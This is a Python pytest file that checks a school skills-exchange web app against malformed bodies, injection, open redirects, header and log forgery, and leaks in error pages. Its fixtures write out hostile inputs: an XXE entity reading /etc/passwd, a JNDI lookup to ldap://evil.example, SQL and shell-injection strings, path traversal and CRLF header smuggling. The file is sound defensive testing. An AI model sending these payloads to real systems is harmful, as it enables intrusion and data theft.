"""Bodies, headers and texts that nobody would send: an answer to each, and nothing done."""

from __future__ import annotations

import io
import json
import logging
import re
from collections.abc import Iterator

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import MultiDict

from marketplace.accounts.models import Person
from marketplace.accounts.roles import Role
from marketplace.application import Skillbank
from marketplace.exchanges.models import State
from marketplace.logs import JsonFormatter, TextFormatter
from marketplace.profiles.photographs.views import LARGEST_BODY
from tests.marketplace.accounts.factories import actor_for
from tests.marketplace.browser import Browser
from tests.marketplace.exchanges.factories import brought_to
from tests.marketplace.factories import saved
from tests.marketplace.listings.factories import posted
from tests.marketplace.network.factories import joined_school
from tests.marketplace.test_access import EXPECTED, World, path_of
from tests.marketplace.test_access import world as world
from tests.security.forms import all_forms, browser_of, filled, pages
from tests.security.test_attacks_by_forgery import WITHOUT_TOKEN, kept, tokens_wanted

URLENCODED = "application/x-www-form-urlencoded"
BOUNDED = "multipart/form-data; boundary=x"
PART = b'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\n'
BODIES: tuple[tuple[str, bytes], ...] = (
    (URLENCODED, b"name=%ff%fe&email=%c3%28&text=%80"),
    (URLENCODED, b"name=%00&title=a%00b&details=%00&text=%00&reason=%00&code=%00&q=%00"),
    (URLENCODED, b"name=%ED%A0%80&email=%F4%90%80%80"),
    (URLENCODED, b"&".join(b"name=x" for _ in range(900))),
    (URLENCODED, b"&&&===&=x&%=&%zz=%zz"),
    (URLENCODED, b"name" + b"[a]" * 5000 + b"=1"),
    (BOUNDED, PART + b"x"),
    (BOUNDED, b"--y\r\n\r\n"),
    (BOUNDED, b"--x\r\nContent-Disposition: form-data\r\n\r\nx\r\n--x--\r\n"),
    (BOUNDED, PART + b"\xff\xfe\x00\r\n--x--\r\n"),
    (
        BOUNDED,
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../x"\r\n\r\nx\r\n--x--',
    ),
    ("multipart/form-data", PART),
    ("multipart/form-data; boundary=", b"\r\n"),
    ("application/json", b"[" * 20_000 + b"]" * 20_000),
    ("application/json", b'{"name": {"$gt": ""}}'),
    ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ("application/x-java-serialized-object", b"\xac\xed\x00\x05"),
    ("text/plain", b"name=x"),
    ("", b"name=x"),
    ("x" * 5000, b""),
    (f"{URLENCODED}; charset=utf-7", b"name=+ADw-script+AD4-"),
    (f"{URLENCODED}; charset=nonsense", b"name=x"),
)
LARGEST = 256 * 1024
LARGER = {"photographs.new": LARGEST_BODY}
"""What takes a file takes more."""
EXPRESSIONS = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "{{ config.SECRET_KEY }}",
    "%(name)s %s %d {0} {name.__class__}",
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    "$(id) `id` ; id | id",
    "${jndi:ldap://evil.example/a}",
    "<b>bold</b><script>alert(1)</script>",
    "&lt;i&gt; &amp; &#39;",
    "=HYPERLINK(1) @SUM +1 -1",
    "../../etc/passwd%00",
)
ELSEWHERE = (
    "https://evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "/\t/evil.example",
    "/%09/evil.example",
    "/%0d%0aLocation:https://evil.example",
    "/home\r\nSet-Cookie: a=b",
    "http://localhost@evil.example",
    "//localhost:80@evil.example/",
    "/.evil.example",
)


BUTTONS = {"accounts.sign_out"}
"""After it the browser would be somebody else."""


def posts(app: Skillbank, world: World) -> Iterator[tuple[str, str]]:
    """Every route that takes a form, once."""
    for endpoint in sorted({endpoint for endpoint, method, _ in EXPECTED if method == "POST"}):
        if endpoint not in WITHOUT_TOKEN:
            yield endpoint, path_of(app, endpoint, world, "ours")


@pytest.fixture
def school(app: Skillbank) -> Browser:
    """A coordinator's browser."""
    with saved(app):
        return Browser(app.test_client()).be(actor_for(joined_school(name="Ash School")))


def test_malformed_bodies_are_refused(app: Skillbank, world: World) -> None:
    """Whoever sends them, and wherever; and the token is not what refuses them."""
    before, faults, tried = kept(app), [], 0
    browsers = {who: browser_of(app, world, who) for who in ("coordinator", "administrator")}
    for endpoint, path in posts(app, world):
        who = "administrator" if endpoint.startswith("members.") else "coordinator"
        if endpoint in BUTTONS:
            continue
        for kind, body in BODIES:
            headers = {"Content-Type": kind} if kind else {}
            answer = browsers[who].client.post(path, data=body, headers=headers)
            tried += 1
            if answer.status_code >= 500:
                faults.append((path, kind[:40], body[:40], answer.status_code))
    assert faults == []
    assert tried >= 500
    assert kept(app)["role_grant"] == before["role_grant"]
    assert kept(app)["exchange"] == before["exchange"]


def test_a_body_that_is_too_large_is_refused_everywhere(app: Skillbank, world: World) -> None:
    before = kept(app)
    with tokens_wanted(app):
        for who in ("coordinator", "nobody"):
            browser = browser_of(app, world, who)
            for endpoint, path in posts(app, world):
                if endpoint in BUTTONS:
                    continue
                more = b"x" * LARGER.get(endpoint, LARGEST)
                for kind, body in (
                    (URLENCODED, b"name=" + more),
                    (BOUNDED, PART + more + b"\r\n--x--\r\n"),
                ):
                    answer = browser.client.post(path, data=body, headers={"Content-Type": kind})
                    # Who may not send it at all is told so first.
                    assert answer.status_code in (302, 401, 403, 404, 413), (endpoint, who)
    assert kept(app) == before


def test_a_field_sent_twice_counts_once(app: Skillbank, world: World) -> None:
    """The first of two counts for a field of one value; a query never speaks for a form."""
    browser = browser_of(app, world, "coordinator")
    [form] = [one for one in all_forms(app, world, "coordinator") if one.endpoint == "listings.new"]
    first = filled(form, lambda name: f"The first {name}")
    values = MultiDict((name, value) for name, sent in first.items() for value in sent)
    values.add("title", "The second title")
    answer = browser.client.post("/listings/new?title=Of+the+query&kind=request", data=values)
    assert answer.status_code == 302, Browser(browser.client)._stand_on(answer).errors
    page = browser.get(answer.location).text
    assert "The first title" in page
    assert "The second title" not in page
    assert "Of the query" not in page


def test_what_looks_like_a_template_or_a_query_is_shown_as_it_was_typed(
    app: Skillbank,
) -> None:
    """In a title, a description, a message, the terms, and what is searched for."""
    with saved(app):
        ash, beech = actor_for(joined_school()), actor_for(joined_school())
        listings = {
            text: posted(ash, title=f"Title {text}", description=f"Description {text}.").id
            for text in EXPRESSIONS
        }
        exchange = brought_to(State.PROPOSED, ash, beech)
        enquiry_id = exchange.enquiry_id
    browser = Browser(app.test_client()).be(ash)
    for text, listing_id in listings.items():
        page = browser.get(f"/listings/{listing_id}")
        shown = " ".join(text.split())
        assert f"Title {shown}" in page.text
        assert f"Description {shown}." in page.text
        assert page.page.select("main b, main i, main script") == []
        browser.get(f"/messages/{enquiry_id}")
        button = next(name for name in browser.buttons if name.startswith("Send"))
        browser.submit(button, body=f"Message {text}")
        assert f"Message {shown}" in browser.text
        found = browser.client.get("/search", query_string={"q": text})
        assert found.status_code == 200
        box = Browser(app.test_client())._stand_on(found).page.find("input", {"name": "q"})
        assert box is not None
        assert box["value"] == text
        for page_text in (page.answer.text, found.text):
            assert "for tests only" not in page_text
    with saved(app) as session:
        assert session.scalar(sa.select(sa.func.count(Person.id))) > 0


def test_nobody_is_sent_to_another_site(app: Skillbank, school: Browser) -> None:
    """By whatever says where to go on, whichever header names another host."""
    forwarded = {
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-For": "203.0.113.1",
        "X-Forwarded-Proto": "https",
        "X-Forwarded-Prefix": "//evil.example",
        "X-Original-URL": "//evil.example",
        "X-Rewrite-URL": "/network/schools",
        "Forwarded": "host=evil.example",
    }
    for target in ELSEWHERE:
        for path in ("/sign-in", "/confirm-it-is-you"):
            answer = school.client.get(path, query_string={"next": target}, headers=forwarded)
            location = answer.headers.get("Location", "")
            assert location == "" or location.startswith("/"), (path, target)
            assert "Set-Cookie: a" not in str(answer.headers)
    for path in ("/home", "/", "/exchanges", "/credits", "/nowhere"):
        answer = school.client.get(path, headers=forwarded)
        assert "evil.example" not in answer.text
        assert "evil.example" not in str(answer.headers)
    for host in ("evil.example", "localhost.evil.example", "localhost@evil.example", "a b", ""):
        answer = school.client.get("/home", headers={"Host": host})
        assert answer.status_code == 400, host
        assert "evil.example" not in answer.text


def test_no_header_is_made_of_what_was_sent(school: Browser) -> None:
    for name in ("X-Request-ID", "User-Agent", "Accept-Language", "Origin", "Referer", "Cookie"):
        answer = school.client.get("/help", headers={name: "a%0d%0aX-Evil: 1; <script>"})
        assert answer.status_code < 500
        assert "X-Evil" not in answer.headers
        assert "evil" not in str(answer.headers).lower()


def test_no_other_site_reads_an_answer(school: Browser) -> None:
    for origin in ("https://evil.example", "null", "http://localhost"):
        for path in (
            "/home",
            "/help",
            "/find-your-school/suggestions?q=ash",
            "/static/favicon.svg",
        ):
            answer = school.client.get(path, headers={"Origin": origin})
            assert "Access-Control-Allow-Origin" not in answer.headers
            answer.close()


def test_the_cookie_is_kept_from_scripts_and_other_sites(app: Skillbank) -> None:
    with saved(app):
        jo = actor_for(joined_school())
    answer = Browser(app.test_client()).be(jo).client.get("/home")
    sign_in = app.test_client().get("/sign-in")
    cookies = [*answer.headers.getlist("Set-Cookie"), *sign_in.headers.getlist("Set-Cookie")]
    assert cookies
    for cookie in cookies:
        assert "HttpOnly" in cookie
        assert re.search(r"SameSite=(Lax|Strict)", cookie)
        assert "Path=/" in cookie
        assert "Domain=" not in cookie


def test_passwords_are_masked_and_may_be_pasted(app: Skillbank, world: World) -> None:
    """Nothing on a page keeps a password manager from its work."""
    count = 0
    for who in ("nobody", "administrator"):
        browser = browser_of(app, world, who)
        for page in pages(app, world, who):
            soup = browser.get(page.path).page
            assert soup.select("[onpaste], [autocomplete=off][type=password]") == []
            for tag in soup.select("input"):
                if "password" in str(tag.get("name", "")):
                    assert tag["type"] == "password", page.path
                    assert tag["autocomplete"] in ("current-password", "new-password")
                    count += 1
    assert count >= 3


def test_every_page_of_the_signed_in_has_the_way_out(app: Skillbank, world: World) -> None:
    for who in ("member", "operator"):
        browser = browser_of(app, world, who)
        for page in pages(app, world, who):
            answer = browser.get(page.path).answer
            if answer.mimetype == "text/html" and page.endpoint != "mail.message_html":
                assert browser.page.select('form[action="/sign-out"] button'), page.path


def test_an_error_shows_nothing_of_the_inside(
    app: Skillbank, school: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail() -> str:
        secret = "s3cr3t of the inside"  # it is what must not be shown
        raise RuntimeError(f"SELECT password_hash FROM person -- {secret}")

    view = app.view_functions["pages.dashboard"]
    fail.access_rule = view.access_rule  # type: ignore[attr-defined]
    monkeypatch.setitem(app.view_functions, "pages.dashboard", fail)
    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", False)
    answer = school.client.get("/home")
    assert answer.status_code == 500
    for word in ("s3cr3t", "SELECT", "Traceback", "RuntimeError", "marketplace/", "sqlalchemy"):
        assert word not in answer.text
    assert "Server" not in answer.headers
    assert not app.debug


def test_no_line_of_the_log_can_be_made_up(app: Skillbank, school: Browser) -> None:
    """A line break in what is sent makes no line; every line of JSON is one object."""
    for formatter in (JsonFormatter(), TextFormatter()):
        stream = io.StringIO()
        handler = logging.StreamHandler(stream)
        handler.setFormatter(formatter)
        logger = logging.getLogger("marketplace")
        level = logger.level
        logger.addHandler(handler)
        logger.setLevel(logging.INFO)
        try:
            for text in ('a\r\n{"level": "info"}', "a\x1b[31m\nfaked INFO request"):
                headers = {"X-Request-ID": "aaaaaaaa%0a", "User-Agent": text.replace("\r\n", "")}
                headers = {name: value.replace("\n", " ") for name, value in headers.items()}
                school.client.get("/search", query_string={"q": text}, headers=headers)
                school.client.get(f"/{text}%0a%0dfaked")
                school.client.open("/home", method="BREW\tfaked")
                school.client.post("/sign-in", data={"email": text, "password": text})
        finally:
            logger.removeHandler(handler)
            logger.setLevel(level)
        lines = stream.getvalue().splitlines()
        assert len(lines) >= 6
        for line in lines:
            assert "faked" not in line
            if isinstance(formatter, JsonFormatter):
                assert json.loads(line)["logger"].startswith("marketplace")


def test_a_member_cannot_read_what_the_role_does_not(app: Skillbank) -> None:
    """Nothing private is in a page's source for whoever may not read it."""
    with saved(app):
        ash, beech = joined_school(), joined_school()
        exchange = brought_to(State.CONFIRMED, actor_for(ash), actor_for(beech))
        member = actor_for(ash, Role.MEMBER)
        code = f"/credits/transactions/{exchange.transaction_id}"
    browser = Browser(app.test_client()).be(member)
    for path in ("/credits", "/credits/statement.csv", code, f"/schools/{ash.urn}/people"):
        assert browser.get(path).status == 403, path
